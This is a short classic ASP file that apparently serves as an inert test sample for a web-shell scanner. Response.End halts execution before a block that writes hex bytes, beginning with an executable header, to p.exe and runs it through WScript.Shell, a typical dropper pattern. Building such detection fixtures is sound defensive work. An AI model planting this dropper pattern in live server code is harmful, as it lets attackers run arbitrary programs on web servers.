<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
x = "4D5A90000300000004000000FFFF0000B8000000"
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write HexToBin(x)
st.SaveToFile Server.MapPath("p.exe"), 2
Server.CreateObject("WScript.Shell").Run Server.MapPath("p.exe")
%>
